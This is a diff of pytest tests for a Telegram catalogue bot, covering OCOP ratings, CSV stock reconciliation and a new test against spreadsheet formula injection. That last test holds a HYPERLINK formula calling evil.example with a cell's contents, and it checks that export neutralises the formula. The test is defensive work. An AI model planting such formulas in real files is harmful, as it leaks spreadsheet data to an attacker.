@@ -1,11 +1,15 @@
 """Admins and producer managers at work, and who may do what."""
 
+import csv
+import io
 import sqlite3
+from datetime import date
 
 import pytest
 from support.botprocess import BotProcess, Shop
 from support.journeys import answer_in_turn
 
+from catalog import rules
 from catalog.money import format_vnd
 from emulators.telegram import Emulator, Person
 
@@ -237,24 +241,44 @@ async def test_a_manager_adds_a_product_with_the_wizard(
         ("450.000", "unit in Vietnamese"),
         ("chiếc", "unit in English"),
         ("piece", "How many are in stock"),
-        ("7", "Which category"),
+        ("7", "How many OCOP stars"),
     ]
     await answer_in_turn(manager, answers)
+    assert await ask(manager, "four") == "Please answer with the buttons below."
+    await manager.wait_for(lambda m: "How many OCOP stars" in m.text)
+    await manager.press("⭐⭐⭐⭐ 4")
+    await manager.wait_for(lambda m: "When was its OCOP certificate granted" in m.text)
+    # A year ago, in the middle of March: valid for three years from that day.
+    granted = date(rules.shop_now().year - 1, 3, 15)
+    await answer_in_turn(
+        manager,
+        [
+            (f"31/02/{granted.year}", "Please type the date like 15/03/2024"),
+            (f"{rules.latest_ocop_year(rules.shop_now()) + 1}", "from 2010 to"),
+            (f"15/3/{granted.year}", "Which category"),
+        ],
+    )
     assert await ask(manager, "hello") == "Please answer with the buttons below."
     await manager.press("Handicrafts")
     summary = await manager.wait_for(lambda m: "New product" in m.text)
     assert "Bình gốm <Men lam> & 🏺" in summary.text
     assert "Quang Vinh Ceramics" in summary.text
+    rating = f"⭐⭐⭐⭐ OCOP 4 stars, {granted.year}, valid until 15/03/{granted.year + 3}"
+    assert rating in summary.text
     await manager.press("✅ Add it")
     done = await manager.wait_for(lambda m: m.text.startswith("✅ Added"))
     sku = done.text.split("SKU ")[1].split(".")[0]
     assert sku.startswith("QUANGVINH-")
-    assert query(shop, "SELECT price, stock, active FROM products WHERE sku = ?", sku) == [
-        (450_000, 7, 1)
-    ]
+    assert query(
+        shop, "SELECT price, stock, active, ocop_stars, ocop_granted FROM products WHERE sku = ?",
+        sku,
+    ) == [(450_000, 7, 1, 4, granted.isoformat())]  # fmt: skip
     await manager.send("blue glaze vase")
     results = await manager.next_message()
-    assert any("Blue glaze vase" in label for row in manager.buttons(results) for label in row)
+    [label] = [label for row in manager.buttons(results) for label in row if "Blue glaze" in label]
+    await manager.press(label)
+    card = await manager.wait_for(lambda m: m.text.startswith("Blue glaze vase"))
+    assert rating in card.text
 
 
 async def test_the_catalog_goes_out_and_back_in_as_a_spreadsheet(
@@ -268,16 +292,30 @@ async def test_the_catalog_goes_out_and_back_in_as_a_spreadsheet(
     assert text.startswith("sku,producer_code,producer_name_vi")
     assert "BABE-SA-10" in text
 
-    # A manager raises a price of their own product through the file: imported, audited.
+    # Three sell at the stall while the file is being edited; the admin records them.
+    [(stock,)] = query(shop, "SELECT stock FROM products WHERE sku = 'BABE-SA-10'")
+    assert stock >= 3
+    assert (await ask(admin, "/stock BABE-SA-10 -3")).endswith(f"→ {stock - 3}")
+
+    # A manager raises a price of their own product through the file: imported, audited, and
+    # the three sold stay sold.
     manager = people["manager_a"]
     lines = text.splitlines()
     header, own = lines[0], [line for line in lines if line.startswith("BABE-SA-10,")]
+    assert f",75000,{stock},{stock}," in own[0]  # the stock, and the stock at export
     edited = own[0].replace(",75000,", ",77000,")
-    assert edited != own[0]
     await manager.send_document(f"{header}\n{edited}\n".encode(), "gia-moi.csv")
     done = await manager.next_message()
-    assert done.text == "✅ Đã nhập: 0 mới, 1 cập nhật, 0 không đổi."
-    assert query(shop, "SELECT price FROM products WHERE sku = 'BABE-SA-10'") == [(77_000,)]
+    assert done.text.splitlines() == [
+        "✅ Đã nhập: 0 mới, 1 cập nhật, 0 không đổi.",
+        "📦 1 dòng có số tồn kho lúc xuất file (stock_at_export): số bạn sửa ở cột “stock” "
+        "được tính là thay đổi so với tồn kho hôm nay, nên hàng đã bán sau khi xuất file vẫn "
+        "là đã bán.",
+        "Trong đó 1 sản phẩm đã bán bớt hoặc được nhập thêm sau khi xuất file.",
+    ]
+    assert query(shop, "SELECT price, stock FROM products WHERE sku = 'BABE-SA-10'") == [
+        (77_000, stock - 3)
+    ]
     assert "price: 75000 → 77000 · nhập file" in await ask(manager, "/history BABE-SA-10")
 
     # A broken price, then another producer's row: nothing changes, the rows are named.
@@ -298,3 +336,39 @@ async def test_the_catalog_goes_out_and_back_in_as_a_spreadsheet(
     assert (await customer.next_message()).text in NOT_ALLOWED
     await manager.send_document(b"\x89PNG\r\n", "anh.png")
     assert (await manager.next_message()).text == "Hãy gửi danh mục dạng file .csv hoặc .xlsx."
+
+
+async def test_a_formula_typed_as_a_name_goes_out_as_text_and_comes_back_the_same(
+    admin: Person, shop: Shop
+) -> None:
+    await admin.send("/export csv")
+    exported = (await admin.next_message()).document
+    assert exported is not None
+    header, *rows = csv.reader(io.StringIO(exported.data.decode("utf-8-sig"), newline=""))
+    link = dict(zip(header, next(row for row in rows if row[0] == "BABE-SA-10"), strict=True))
+    trap = '=HYPERLINK("http://evil.example/?"&A1,"Giảm giá 50%")'
+    link |= {"sku": "BABE-LINK", "name_vi": trap, "name_en": "-1+1", "stock_at_export": ""}
+    await admin.send_document(csv_bytes(header, [list(link.values())]), "them.csv")
+    assert (await admin.next_message()).text.startswith("✅ Imported: 1 new, 0 updated")
+    assert query(shop, "SELECT name_vi, name_en FROM products WHERE sku = 'BABE-LINK'") == [
+        (trap, "-1+1")
+    ]
+
+    await admin.send("/export csv")
+    exported = (await admin.next_message()).document
+    assert exported is not None
+    data = exported.data
+    header, *rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
+    cells = dict(zip(header, next(row for row in rows if row[0] == "BABE-LINK"), strict=True))
+    # A spreadsheet app shows these as text instead of running them.
+    assert (cells["name_vi"], cells["name_en"]) == (f"'{trap}", "'-1+1")
+    await admin.send_document(data, "lai.csv")
+    assert (await admin.next_message()).text.startswith(
+        f"✅ Imported: 0 new, 0 updated, {len(rows)} unchanged."
+    )
+
+
+def csv_bytes(header: list[str], rows: list[list[str]]) -> bytes:
+    buffer = io.StringIO(newline="")
+    csv.writer(buffer, lineterminator="\r\n").writerows([header, *rows])
+    return buffer.getvalue().encode("utf-8-sig")
